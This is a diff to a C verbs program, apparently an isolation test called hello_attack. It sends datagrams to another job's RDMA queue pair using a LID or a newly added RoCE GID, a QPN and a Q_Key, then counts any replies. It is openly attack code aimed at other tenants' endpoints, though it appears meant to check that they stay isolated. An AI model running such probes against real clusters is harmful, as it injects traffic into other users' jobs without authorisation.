@@ -3,7 +3,9 @@
  *
  * A plain verbs program. The job that it attacks must not notice, and must not answer: prints how
  * many answers came.
- *   hello_attack --lid L --qpn N --qkey K --job J --ranks R [--count C] [--seed S] */
+ *   hello_attack --lid L|--gid G --qpn N --qkey K --job J --ranks R [--count C] [--seed S]
+ * On RoCE G is the victim's address, and ours is the same entry of our GID table (--sgid, 3). */
+#include <arpa/inet.h>
 #include <getopt.h>
 #include <infiniband/verbs.h>
 #include <stdio.h>
@@ -16,7 +18,8 @@
 #define ROOM 1024
 #define RECVS 64
 
-static uint64_t lid, qpn, qkey, job, ranks = 2, count = 20000, seed = 1;
+static uint64_t lid, qpn, qkey, job, ranks = 2, count = 20000, seed = 1, sgid = 3;
+static const char *gid;
 static struct ibv_pd *pd;
 static struct ibv_cq *cq;
 static struct ibv_qp *qp;
@@ -57,6 +60,15 @@ static void open_device(void)
         .cap = {.max_send_wr = 4, .max_recv_wr = RECVS, .max_send_sge = 1, .max_recv_sge = 1}};
     struct ibv_qp_attr attr = {.qp_state = IBV_QPS_INIT, .port_num = 1, .qkey = (uint32_t)qkey};
     struct ibv_ah_attr to = {.dlid = (uint16_t)lid, .port_num = 1};
+
+    if (gid != NULL) {
+        to.is_global = 1;
+        to.grh.sgid_index = (uint8_t)sgid;
+        to.grh.hop_limit = 64;
+        if (inet_pton(AF_INET6, gid, to.grh.dgid.raw) != 1) {
+            die("--gid");
+        }
+    }
 
     if (ctx == NULL) {
         die("no device");
@@ -162,14 +174,19 @@ int main(int argc, char **argv)
     static const struct option options[] = {{"lid", 1, NULL, 'l'},   {"qpn", 1, NULL, 'q'},
                                             {"qkey", 1, NULL, 'k'},  {"job", 1, NULL, 'j'},
                                             {"ranks", 1, NULL, 'r'}, {"count", 1, NULL, 'c'},
-                                            {"seed", 1, NULL, 's'},  {NULL, 0, NULL, 0}};
-    uint64_t *const values[] = {&lid, &qpn, &qkey, &job, &ranks, &count, &seed};
-    static const char letters[] = "lqkjrcs";
+                                            {"seed", 1, NULL, 's'},  {"sgid", 1, NULL, 'i'},
+                                            {"gid", 1, NULL, 'g'},   {NULL, 0, NULL, 0}};
+    uint64_t *const values[] = {&lid, &qpn, &qkey, &job, &ranks, &count, &seed, &sgid};
+    static const char letters[] = "lqkjrcsi";
     int c;
 
     while ((c = getopt_long(argc, argv, "", options, NULL)) != -1) {
         const char *at = strchr(letters, c);
 
+        if (c == 'g') {
+            gid = optarg;
+            continue;
+        }
         if (at == NULL) {
             return 2;
         }
